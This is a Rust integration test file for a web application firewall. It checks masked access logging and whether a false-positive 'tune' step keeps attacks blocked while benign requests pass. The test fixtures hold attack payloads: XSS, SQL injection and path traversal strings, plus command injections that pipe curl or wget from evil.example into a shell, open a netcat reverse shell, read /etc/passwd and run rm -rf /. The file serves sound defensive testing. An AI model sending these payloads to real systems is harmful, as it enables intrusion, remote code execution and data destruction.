//! False-positive tuning: the access log says what matched (rule, variable with key, a
//! short value with credentials masked), and `palisade-engine tune` turns a monitor-mode
//! log into exclusions that let benign traffic through while attacks stay blocked.

use std::time::Duration;

use crate::crs::{crs_config, crs_dir};
use crate::support::{Engine, app, client};

#[tokio::test(flavor = "multi_thread")]
async fn access_log_names_rule_variable_and_masked_value_of_each_match() {
    let Some(crs) = crs_dir() else { return };
    let app = app::http().await;
    let mut engine = Engine::start(app.addr, &crs_config(&crs, "monitor"));
    let long = "a".repeat(500);
    let mut req = client::request(
        "GET",
        &format!("/search?comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E{long}"),
        bytes::Bytes::new(),
    );
    let h = req.headers_mut();
    h.insert("user-agent", http::HeaderValue::from_static("nikto/2.1.6"));
    h.insert(
        "cookie",
        http::HeaderValue::from_static("session=1%27%20or%201%3D1--"),
    );
    let mut s = client::connect(engine.addr).await;
    let resp = client::send(&mut s, req).await;
    assert_eq!(resp.status(), 200, "monitor mode never blocks");
    let line = engine.wait_event(|v| v["type"] == "access", Duration::from_secs(10));
    let matches = line["matches"].as_array().expect("matches array");
    let find = |id: u64| {
        matches
            .iter()
            .find(|m| m["id"] == id)
            .unwrap_or_else(|| panic!("rule {id} not in {line}"))
    };
    let xss = find(941100);
    assert_eq!(xss["var"], "ARGS:comment", "{xss}");
    let value = xss["value"].as_str().unwrap();
    assert!(value.contains("<script>"), "{value}");
    assert_eq!(value.chars().count(), 100, "cut to a safe length: {value}");
    let scanner = find(913100);
    // Header names are logged as the client sent them (hyper sends them lower-case).
    assert!(
        scanner["var"]
            .as_str()
            .unwrap()
            .eq_ignore_ascii_case("REQUEST_HEADERS:User-Agent"),
        "{scanner}"
    );
    assert!(scanner["value"].as_str().unwrap().contains("nikto"));
    let sqli = matches
        .iter()
        .find(|m| m["var"] == "REQUEST_COOKIES:session")
        .unwrap_or_else(|| panic!("no match on the cookie in {line}"));
    assert_eq!(sqli["value"], "***", "cookie values are masked: {sqli}");
    assert!(
        !line.to_string().contains("or 1=1"),
        "the cookie value appears nowhere: {line}"
    );
    let ids = line["rule_ids"].as_array().unwrap();
    assert!(matches.iter().all(|m| ids.contains(&m["id"])), "{line}");
}

/// (method, path, content type, body, cookie) of one request.
type Req = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
);

const FORM: &str = "application/x-www-form-urlencoded";

const BENIGN: &[Req] = &[
    (
        "POST",
        "/blog/comment",
        FORM,
        "comment=%3Cp%3EGreat+post%21+See+%3Ca+href%3D%22https%3A%2F%2Fexample.com%2Fdocs%22+onclick%3D%22track()%22%3Ethe+docs%3C%2Fa%3E%3C%2Fp%3E",
        "",
    ),
    (
        "POST",
        "/blog/comment",
        FORM,
        "comment=%3Cimg+src%3D%22cat.png%22+onerror%3D%22this.hidden%3Dtrue%22%3E+so+cute",
        "",
    ),
    (
        "GET",
        "/search?q=select+name+from+users+where+id%3D1+union+select+1",
        "",
        "",
        "",
    ),
    (
        "GET",
        "/search?q=how+to+write+1%27+or+1%3D1+in+a+query",
        "",
        "",
        "",
    ),
    (
        "POST",
        "/api/snippets",
        "application/json",
        r#"{"title":"shell","code":"for f in $(ls /etc/passwd); do cat $f; done"}"#,
        "",
    ),
    (
        "POST",
        "/api/snippets",
        "application/json",
        r#"{"title":"js","code":"document.cookie; eval(atob(x)); <script>run()</script>"}"#,
        "",
    ),
    (
        "GET",
        "/account",
        "",
        "",
        "prefs=eyJ0aGVtZSI6ImRhcmsifQ; cart=select%20*%20from%20items%20where%201%3D1; trk=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    ),
];

// Attacks, two of them in parameters the tuning excludes from single rules (comment,
// json.code). Command injection in json.code is measured apart (RCE_IN_CODE): the benign
// shell snippet gets five rules excluded for that field, which the reviewer has to decide on.
const ATTACKS: &[Req] = &[
    (
        "POST",
        "/blog/comment",
        FORM,
        "comment=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E",
        "",
    ),
    (
        "GET",
        "/search?q=1%27%20union%20select%20password%20from%20users--",
        "",
        "",
        "",
    ),
    (
        "POST",
        "/api/snippets",
        "application/json",
        r#"{"title":"x","code":"1' union select password from users--"}"#,
        "",
    ),
    ("GET", "/search?q=..%2F..%2F..%2Fetc%2Fpasswd", "", "", ""),
    ("GET", "/other?id=1%27%20or%201%3D1--", "", "", ""),
];

/// Command injections in `json.code` at /api/snippets, the field whose benign shell snippet
/// gets five rules excluded (930120, 932130, 932160, 932230, 932250). Measured, not asserted
/// all blocked: some of them are caught only by those rules (see docs/tuning.md).
const RCE_IN_CODE: &[Req] = &[
    rce(r#"{"code":"; cat /etc/passwd"}"#),
    rce(r#"{"code":"$(curl -s http://evil.example/x.sh | sh)"}"#),
    rce(r#"{"code":"; nc -e /bin/sh 10.0.0.1 4444"}"#),
    rce(r#"{"code":"| wget http://evil.example/s -O- | bash"}"#),
    rce(r#"{"code":"`id`"}"#),
    rce(r#"{"code":"; python3 -c 'import os;os.system(input())'"}"#),
    rce(r#"{"code":"& powershell -enc SQBFAFgA"}"#),
    rce(r#"{"code":"; rm -rf / --no-preserve-root"}"#),
    rce(r#"{"code":"() { :; }; /bin/bash -c id"}"#),
    rce(r#"{"code":"; /usr/bin/id"}"#),
];

const fn rce(body: &'static str) -> Req {
    ("POST", "/api/snippets", "application/json", body, "")
}

async fn send_all(addr: std::net::SocketAddr, reqs: &[Req]) -> Vec<u16> {
    let mut out = Vec::new();
    for (method, path, ct, body, cookie) in reqs {
        let mut req = client::request(method, path, bytes::Bytes::from_static(body.as_bytes()));
        if !ct.is_empty() {
            req.headers_mut()
                .insert("content-type", http::HeaderValue::from_static(ct));
        }
        if !cookie.is_empty() {
            req.headers_mut()
                .insert("cookie", http::HeaderValue::from_static(cookie));
        }
        let mut s = client::connect(addr).await;
        out.push(client::send(&mut s, req).await.status().as_u16());
    }
    out
}

fn share(statuses: &[u16]) -> f64 {
    statuses.iter().filter(|s| **s == 403).count() as f64 / statuses.len() as f64
}

#[tokio::test(flavor = "multi_thread")]
async fn monitor_tune_block_passes_benign_traffic_and_still_blocks_attacks() {
    let Some(crs) = crs_dir() else { return };
    let app = app::http().await;
    // Before: block mode with the CRS alone.
    let before = Engine::start(app.addr, &crs_config(&crs, "block"));
    let benign_before = send_all(before.addr, BENIGN).await;
    let attacks_before = send_all(before.addr, ATTACKS).await;
    let rce_before = send_all(before.addr, RCE_IN_CODE).await;
    let rce_rules_before = last_rule_ids(
        &before,
        BENIGN.len() + ATTACKS.len() + RCE_IN_CODE.len(),
        RCE_IN_CODE.len(),
    );
    drop(before);
    // Monitor: replay the benign set and keep the log.
    let monitor = Engine::start(app.addr, &crs_config(&crs, "monitor"));
    send_all(monitor.addr, BENIGN).await;
    let log: String = monitor
        .wait_access(BENIGN.len(), Duration::from_secs(10))
        .iter()
        .map(|v| format!("{v}\n"))
        .collect();
    drop(monitor);
    let dir = tempfile::tempdir().unwrap();
    let log_path = dir.path().join("access.log");
    std::fs::write(&log_path, &log).unwrap();
    let out = std::process::Command::new(crate::support::BIN)
        .args(["tune", "--log"])
        .arg(&log_path)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let rules = String::from_utf8(out.stdout).unwrap();
    eprintln!("tune stderr:\n{}", String::from_utf8_lossy(&out.stderr));
    eprintln!("tune output:\n{rules}");
    assert!(rules.contains("ctl:ruleRemoveTargetById="), "{rules}");
    let rules_path = dir.path().join("exclusions.conf");
    std::fs::write(&rules_path, &rules).unwrap();
    // After: block mode with the exclusions loaded after the CRS.
    let yaml = format!(
        "{}    - {}\n",
        crs_config(&crs, "block"),
        rules_path.display()
    );
    let after = Engine::start(app.addr, &yaml);
    let benign_after = send_all(after.addr, BENIGN).await;
    let attacks_after = send_all(after.addr, ATTACKS).await;
    let rce_after = send_all(after.addr, RCE_IN_CODE).await;
    eprintln!(
        "benign blocked: before {:.0}% ({benign_before:?}), after {:.0}% ({benign_after:?}); \
         attacks detected: before {:.0}% ({attacks_before:?}), after {:.0}% ({attacks_after:?})",
        share(&benign_before) * 100.0,
        share(&benign_after) * 100.0,
        share(&attacks_before) * 100.0,
        share(&attacks_after) * 100.0,
    );
    assert!(
        share(&benign_before) > 0.5,
        "the benign set is flagged by the CRS"
    );
    assert_eq!(share(&benign_after), 0.0, "tuned: benign requests pass");
    assert_eq!(share(&attacks_before), 1.0);
    assert_eq!(
        share(&attacks_after),
        1.0,
        "tuned: attacks are still blocked"
    );
    // Command injection in the tuned json.code: every one that now passes was caught before
    // only by rules the tuning excluded for that field; nothing else was given away.
    let excluded: Vec<u64> = rules
        .lines()
        .filter_map(|l| l.split("ctl:ruleRemoveTargetById=").nth(1))
        .filter_map(|t| t.strip_suffix(";ARGS:json.code\""))
        .map(|id| id.parse().unwrap())
        .collect();
    eprintln!(
        "command injection in json.code detected: before {:.0}% ({rce_before:?}), after {:.0}% \
         ({rce_after:?}); rules excluded for json.code: {excluded:?}",
        share(&rce_before) * 100.0,
        share(&rce_after) * 100.0,
    );
    assert!(
        share(&rce_before) > 0.5,
        "the CRS alone blocks most of them"
    );
    let outcomes = RCE_IN_CODE.iter().zip(rce_before.iter().zip(&rce_after));
    for ((req, (before, after)), ids) in outcomes.zip(&rce_rules_before) {
        let detecting: Vec<&u64> = ids.iter().filter(|id| !is_scoring(**id)).collect();
        if *before == 403 && *after != 403 {
            assert!(
                detecting.iter().all(|id| excluded.contains(id)),
                "{} passes after tuning although rules {detecting:?} caught it before",
                req.3
            );
        }
    }
}

fn is_scoring(id: u64) -> bool {
    matches!(id / 1000, 949 | 959 | 980)
}

/// The matched rule ids of the last `n` of `total` access-log lines, oldest first.
fn last_rule_ids(engine: &Engine, total: usize, n: usize) -> Vec<Vec<u64>> {
    let lines = engine.wait_access(total, Duration::from_secs(10));
    lines[lines.len().saturating_sub(n)..]
        .iter()
        .map(|v| {
            v["rule_ids"]
                .as_array()
                .map(|a| a.iter().filter_map(|id| id.as_u64()).collect())
                .unwrap_or_default()
        })
        .collect()
}
